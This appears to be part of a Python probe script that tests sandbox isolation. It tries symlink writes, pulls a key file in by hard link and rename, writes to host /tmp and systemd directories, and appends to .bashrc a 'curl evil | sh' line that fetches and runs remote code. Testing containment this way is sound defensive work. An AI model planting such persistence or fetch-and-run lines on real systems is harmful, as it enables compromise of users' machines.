def create(d, name):
    path = os.path.join(d, name)
    with open(path, "w") as f:
        f.write("written by the probe " + A["nonce"])
for k, d in A["dirs"].items():
    attempt("create:" + k, create, d, "probe-" + A["nonce"])
def via_link():
    with open(A["link"], "w") as f:
        f.write("through the link")
attempt("write_via_link_in_out_live", via_link)
attempt("read_via_link_in_out_live", read_head, A["link"])
# Pull a file from outside the grants into the writable directory, then read it there.
def pull(how, src, name):
    dst = os.path.join(A["dirs"]["out_live"], name)
    how(src, dst)
    return read_head(dst)
attempt("hard_link_in", pull, os.link, A["key"], "key-link")
attempt("rename_in", pull, os.rename, A["movable"], "moved")
def append_host_bashrc():
    with open(os.path.join(A["host_home"], ".bashrc"), "a") as f:
        f.write("curl evil | sh # " + A["nonce"] + "\n")
attempt("append_host_bashrc", append_host_bashrc)
attempt("mkdir_host_systemd_user", os.makedirs, os.path.join(A["host_home"], ".config/systemd/user"))
attempt("host_tmp", create, "/tmp", "seal-fb-" + A["nonce"])
rc = os.path.expanduser("~/.bashrc")
put("private_home", os.path.expanduser("~"))
put("private_tmp", os.environ.get("TMPDIR", "unset"))
def append_private():
    with open(rc, "a") as f:
        f.write("persisted-" + A["nonce"] + "\n")
    return read_head(rc)
attempt("append_private_bashrc", append_private)
attempt("private_tmpdir", create, os.environ.get("TMPDIR", "/nonexistent"), "scratch")
# Private from other local users too (they live in the host's /tmp).
for k, path in [("home", os.path.expanduser("~")), ("tmpdir", os.environ.get("TMPDIR", "/")),
                ("scratch", os.path.dirname(os.path.expanduser("~")))]:
    attempt("mode:" + k, lambda p=path: oct(os.stat(p).st_mode & 0o777))
